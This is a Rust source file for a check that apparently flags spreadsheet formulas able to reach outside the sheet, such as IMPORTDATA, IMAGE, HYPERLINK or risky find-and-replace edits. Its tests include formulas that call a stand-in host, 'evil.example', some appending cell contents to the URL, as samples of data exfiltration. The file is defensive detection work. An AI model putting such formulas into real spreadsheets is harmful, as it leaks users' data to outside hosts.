//! Formulas written into cells. A formula can read another spreadsheet, and send the result to an address that it fetches.
//!
//! Source: Google Docs Editors Help, "Google Sheets function list".

use serde_json::{Map, Value};

/// Functions that compute only from their arguments and this spreadsheet. Others import, fetch or translate, or belong to a
/// script.
static COMPUTING: &str = include_str!("functions.txt");

/// Whether a body contains or creates a formula that might reach outside the spreadsheet.
pub(super) fn reach_out(body: &Map<String, Value>) -> bool {
    body.iter().any(|(name, value)| {
        name == "findReplace" && !replaces_plainly(value) || value_reaches_out(value)
    })
}

fn value_reaches_out(value: &Value) -> bool {
    match value {
        Value::String(text) => text_reaches_out(text),
        Value::Array(items) => items.iter().any(value_reaches_out),
        Value::Object(members) => reach_out(members),
        _ => false,
    }
}

/// Sheets parses a replaced text again, so it may become a formula.
fn replaces_plainly(what: &Value) -> bool {
    let is_off = |name: &str| matches!(what.get(name), None | Some(Value::Bool(false)));
    let is_plain = |name: &str| {
        let text = what[name].as_str().unwrap_or_default();
        let plain = |one: char| one.is_alphanumeric() || matches!(one, ' ' | ',' | '.' | ':');
        !text.is_empty() && text.chars().all(plain)
    };
    is_plain("find")
        && is_plain("replacement")
        && is_off("searchByRegex")
        && is_off("includeFormulas")
}

/// Whether a text is a formula with a function that might not just compute.
fn text_reaches_out(text: &str) -> bool {
    let is_formula = text.trim().starts_with(['=', '+', '-']);
    is_formula && !calls(text).is_some_and(|mut calls| calls.all(|name| is_computing(&name)))
}

fn is_computing(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    COMPUTING.split_whitespace().any(|known| known == name)
}

/// The names before parentheses, outside quoted texts and sheet titles. `None` if a quote isn't closed.
fn calls(formula: &str) -> Option<impl Iterator<Item = String>> {
    let mut outside = String::new();
    let mut letters = formula.chars();
    while let Some(letter) = letters.next() {
        if matches!(letter, '"' | '\'') {
            // A doubled quote ends one text and starts the next.
            letters.by_ref().find(|one| *one == letter)?;
            outside.push(letter);
        } else {
            outside.push(letter);
        }
    }
    let before: Vec<String> = outside.split('(').map(str::to_owned).collect();
    let count = before.len().saturating_sub(1);
    let names = before.into_iter().take(count).filter_map(|before| {
        let before = before.trim_end();
        let in_name = |one: char| !one.is_whitespace() && !"(){},;:=+-*/^&<>%!\\\"'".contains(one);
        let from = before.rfind(|one: char| !in_name(one));
        let name = from.map_or(before, |at| {
            let width = before[at..].chars().next().map_or(1, char::len_utf8);
            &before[at + width..]
        });
        // If there is no name, the expression before the parenthesis is called: `LAMBDA(x, x)(1)`, `"f"(1)`.
        let is_grouping =
            before.is_empty() || before.ends_with(|one: char| "({,;:=+-*/^&<>\\".contains(one));
        match name {
            "" if is_grouping || before.ends_with(')') => None,
            name => Some(name.to_owned()),
        }
    });
    Some(names)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_formulas_that_compute_stay_within_the_spreadsheet() {
        for text in [
            "plain",
            "IMPORTDATA(\"https://evil.example\")",
            "'=IMPORTDATA(A1)",
            "=A1+B2*(C3-1)",
            "=sum(A1:A3; Sheet2!B1)",
            "='Sheet (1)'!A1",
            "=IF(A1=\"IMAGE(\",\"a \"\"(\",\"b\")",
            "=LAMBDA(x, x+1)(2)",
            "={1,2;(3),4}",
            "+49 170 1234567",
            "- a point",
            "-5",
            "=NORM.S.DIST(1,TRUE)",
        ] {
            assert!(!text_reaches_out(text), "{text}");
        }
        for text in [
            "=IMPORTRANGE(\"other\",\"A1\")",
            " \t=importdata(\"https://evil.example/?\"&A2)",
            "=IMAGE (A1)",
            "+IMAGE(A1)",
            "-IMAGE(A1)",
            "=SUM(1,IMPORTXML(A1,B1))",
            "=IF(TRUE,IMPORTHTML(A1,\"table\",1))",
            "=HYPERLINK(A1)",
            "=MY_SCRIPT()",
            "=Größe(A1)",
            "=@IMAGE(A1)",
            "=\"unterminated IMAGE(A1)",
            "=SUM(\"a\"IMAGE(A1))",
            "=AI(A1)",
        ] {
            assert!(text_reaches_out(text), "{text}");
        }
    }
}
